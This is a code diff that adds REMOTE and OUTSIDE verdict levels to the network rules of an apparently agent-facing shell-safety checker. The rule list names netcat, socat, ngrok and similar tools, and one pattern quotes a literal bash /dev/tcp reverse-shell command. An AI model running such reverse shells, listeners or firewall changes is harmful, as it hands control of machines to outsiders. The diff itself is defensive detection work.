@@ -6,6 +6,7 @@ import re
 from typing import TYPE_CHECKING
 
 from hermes.safety.shell.rules.model import Rule
+from hermes.safety.shell.verdict import OUTSIDE, REMOTE
 
 if TYPE_CHECKING:
     from hermes.safety.shell.command import Command
@@ -103,6 +104,7 @@ def _sends_input(command: Command) -> bool:
 RULES = (
     Rule(
         "network.debugger",
+        REMOTE,
         "It lets whoever connects run a program under a debugger.",
         programs="gdbserver dlv lldb-server",
         when=lambda command: any(_ANY_HOST.match(arg) for arg in command.args),
@@ -119,6 +121,7 @@ RULES = (
     ),
     Rule(
         "network.firewall",
+        OUTSIDE,
         "It changes firewall rules, routes or network interfaces.",
         programs=(
             "iptables ip6tables ebtables arptables nft ufw firewall-cmd pfctl setenforce ip route "
@@ -137,6 +140,7 @@ RULES = (
     ),
     Rule(
         "network.reverse-shell",
+        REMOTE,
         "It connects a shell on this machine to someone else.",
         programs="nc ncat netcat socat",
         when=_serves_shell,
@@ -151,6 +155,7 @@ RULES = (
     ),
     Rule(
         "network.raw-socket",
+        REMOTE,
         "It talks to a network address through the shell itself.",
         matches=(
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
@@ -161,6 +166,7 @@ RULES = (
     ),
     Rule(
         "network.listener",
+        REMOTE,
         "It opens a port to other machines.",
         programs=(
             "nc ncat netcat socat ssh autossh httpd php ngrok cloudflared localtunnel lt bore "
@@ -185,6 +191,7 @@ RULES = (
     ),
     Rule(
         "network.raw-send",
+        REMOTE,
         "It sends data of unknown content to another machine.",
         programs="nc ncat netcat socat telnet",
         when=_sends_input,
